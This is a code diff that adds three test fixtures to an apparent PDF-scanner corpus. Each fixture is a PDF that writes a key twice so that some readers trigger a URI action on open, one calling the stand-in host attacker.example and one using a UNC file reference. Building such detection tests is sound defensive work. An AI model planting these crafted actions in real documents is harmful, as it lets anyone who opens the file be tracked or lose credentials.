@@ -752,6 +752,18 @@ const huntedPdfs: CorpusItem[] = [
       { packed: [6, 7, 9] },
     ),
   ),
+  // A key written twice: pdf.js keeps the last value, a reader that keeps the first calls out.
+  hunted('pdf-openaction-type-written-twice', 'PDF_ACTION', () =>
+    buildClassicPdf(pageObjects('/OpenAction << /S /URI /URI (http://attacker.example/t) /S /GoTo /D [3 0 R /Fit] >>')),
+  ),
+  hunted('pdf-openaction-written-twice', 'PDF_ACTION', () =>
+    buildPdf(pageObjects('/OpenAction 6 0 R /OpenAction [3 0 R /Fit]').concat({ num: 6, body: URI_ACTION }), {
+      packed: [1, 6],
+    }),
+  ),
+  hunted('pdf-link-uri-written-twice-share-first', 'PDF_ACTION', () =>
+    buildClassicPdf(linkAnnotations(`<< /S /URI /URI ${UNC_FILE} /URI (https://www.miit.gov.cn/) >>`)),
+  ),
 ];
 
 /** PDFs whose structure cannot be read whole. */
